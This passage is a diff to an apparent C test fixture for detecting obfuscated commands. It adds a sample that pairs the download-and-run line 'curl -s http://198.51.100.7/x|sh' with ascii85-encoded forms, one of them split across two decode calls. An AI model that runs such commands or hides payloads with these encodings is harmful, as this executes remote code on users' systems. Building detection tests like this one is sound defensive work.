@@ -8,6 +8,10 @@ static const struct hidden good[] = {
 	{ "ascii85", "curl -s http://198.51.100.7/x|sh",
 		"python3 -c \"import base64;exec(base64.a85decode(r'@s)g.+>%X"
 		"WBQS\?83\\N-@3B/WK0eP170J5:;G^ORG'))\"" },
+	/* What the text names, its first string was found with. */
+	{ "ascii85", "curl -s http://198.51.100.7/x|sh",
+		"x a85decode('ARfCl+D>>&Ci:G\?DfTZ)'); y a85decode('@s)g.+>%X"
+		"WBQS\?83\\N-@3B/WK0eP170J5:;G^ORG')" },
 };
 
 static const char *const not [] = {
